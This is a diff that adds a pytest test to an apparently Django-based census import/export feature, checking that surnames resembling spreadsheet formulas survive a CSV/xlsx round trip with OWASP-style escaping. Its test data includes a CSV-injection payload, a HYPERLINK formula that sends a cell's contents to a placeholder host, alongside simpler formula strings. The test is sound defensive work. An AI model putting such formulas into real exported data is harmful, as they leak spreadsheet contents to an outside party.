@@ -479,6 +479,21 @@ def test_it_exports_in_the_import_layout_so_that_a_round_trip_changes_nothing(ce
     assert (report.created, report.updated, report.unchanged) == (0, 0, 2)
 
 
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_a_round_trip_keeps_names_that_look_like_formulas(census: Census, fmt: str) -> None:
+    """The export writes them as text (the CSV with a quote in front, OWASP's rule); the import takes the quote
+    off again, so that the names come back as they were."""
+    names = ['=HYPERLINK("http://esempio.invalid/?d="&C2,"Apri")', "@SUM(1+1)", "+1+1", "-2+3"]
+    run(census, csv_file([row(number, Cognome=name) for number, name in enumerate(names, start=1)]))
+    assert sorted(Person.objects.values_list("surname", flat=True)) == sorted(names)
+    positions = list(census_positions(census))
+    content = census_xlsx(positions) if fmt == "xlsx" else census_csv(positions)
+    report = run(census, content)
+    assert report.errors == []
+    assert (report.created, report.updated, report.unchanged) == (0, 0, 4)
+    assert sorted(Person.objects.values_list("surname", flat=True)) == sorted(names)
+
+
 def test_it_writes_typed_cells_in_the_xlsx_export(census: Census) -> None:
     run(census, csv_file([row(1, **{"Ore settimanali": "18,5"})]))
     workbook = load_workbook(__import__("io").BytesIO(census_xlsx(list(census_positions(census)))))
